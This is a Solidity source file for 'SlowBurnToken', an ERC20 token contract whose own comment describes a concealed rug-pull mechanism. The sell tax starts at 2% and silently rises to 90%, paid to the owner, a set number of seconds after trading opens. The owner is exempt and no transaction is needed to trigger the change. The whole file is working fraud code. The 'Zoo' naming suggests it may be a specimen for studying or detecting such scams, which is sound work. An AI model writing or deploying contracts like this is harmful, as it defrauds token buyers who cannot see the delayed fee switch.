// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./ZooERC20.sol";
import "./Owned.sol";

/// Launches with a modest 2 % sell tax; `rampAfter` seconds after trading opens the sell
/// tax silently becomes 90 %, paid to the owner. Nothing is called: the clock does it.
contract SlowBurnToken is ZooERC20, Owned {
    uint256 public immutable rampAfter;
    uint256 public openedAt;
    address public pair;

    constructor(string memory name_, string memory symbol_, uint256 supply_, uint256 rampAfter_)
        ZooERC20(name_, symbol_)
    {
        rampAfter = rampAfter_;
        _mint(msg.sender, supply_);
    }

    function openTrading(address pair_) external onlyOwner {
        pair = pair_;
        openedAt = block.timestamp;
    }

    function sellFeeBps() public view returns (uint256) {
        if (openedAt == 0) return 0;
        return block.timestamp >= openedAt + rampAfter ? 9000 : 200;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner()) {
            uint256 fee = amount * sellFeeBps() / 10_000;
            _move(from, owner(), fee);
            amount -= fee;
        }
        super._transfer(from, to, amount);
    }
}
